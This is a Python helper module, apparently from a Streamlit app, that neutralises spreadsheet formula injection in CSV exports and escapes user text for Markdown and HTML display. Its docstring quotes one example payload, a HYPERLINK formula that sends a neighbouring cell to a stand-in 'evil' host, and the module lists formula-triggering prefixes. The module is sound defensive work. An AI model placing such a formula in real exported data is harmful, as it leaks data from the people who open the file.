"""Neutralising spreadsheet formulas in exported cells (CSV / formula injection).

A cell whose text begins with =, +, - or @ is run as a formula by Excel, LibreOffice and Google
Sheets when the file is opened: a funder name such as `=HYPERLINK("http://evil/?"&A1,"x")` would
send the neighbouring cell away. OWASP's advice is to prefix such text with an apostrophe, which
spreadsheets read as "this is text". Tab and carriage return are included because some
spreadsheets strip them and then see the formula behind; the full-width forms because some
spreadsheets fold them to the ASCII ones.

Numbers, dates and booleans are left alone: they are data, not text, and must stay sortable.
Every export calls one of these on every row it writes, headers included.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(value: Any) -> Any:
    """The value, with a leading apostrophe if it is text that a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any] | Mapping[str, Any]) -> list[Any] | dict[str, Any]:
    """A list row or a dict row (keys too: headers are cells as well)."""
    if isinstance(row, Mapping):
        return {neutralise_cell(k): neutralise_cell(v) for k, v in row.items()}
    return [neutralise_cell(v) for v in row]


def neutralise_rows(rows: Iterable[Iterable[Any] | Mapping[str, Any]]) -> list:
    return [neutralise_row(r) for r in rows]


def neutralise_frame(frame):
    """A copy of a pandas DataFrame with text cells and column names neutralised."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype) in ("string", "str"):
            out[column] = out[column].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def safe_csv_bytes(frame) -> bytes:
    """The DataFrame as UTF-8 CSV (with a BOM so Excel reads accents), formulas neutralised.
    CRLF line ends (RFC 4180) make the writer quote any cell holding a carriage return, so a
    lone CR cannot start a new, un-neutralised row in the spreadsheet."""
    return neutralise_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


# --- User text on screen --------------------------------------------------------------------------
# The one helper for text people typed (stories, survey comments, notes, names, titles) shown
# through Markdown (st.markdown, st.caption, labels): every character Markdown, GitHub's
# extensions or Streamlit's directives (:red[...], :material/...:) give a meaning is escaped,
# so `![x](http://...)` is not an image (no request leaves the reader's browser), `[a](b)`,
# `<http://x>` and bare `www.x.org` are not links, and `<b>` is shown as text. Newlines are kept.
_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~<>$:=&\"'])")


def inert_markdown(text: object) -> str:
    """User text made inert inside Markdown: shown exactly as typed, never as markup."""
    if text is None:
        return ""
    return _MARKDOWN_SPECIAL.sub(r"\\\1", str(text))


def inert_html(text: object) -> str:
    """User text made inert inside our HTML blocks drawn through st.markdown (the scorecard grid,
    the digest cards): escaped, and its line breaks made spaces, because a blank line would end
    the HTML block and let Markdown read the rest as markup."""
    if text is None:
        return ""
    return html.escape(" ".join(str(text).split()))
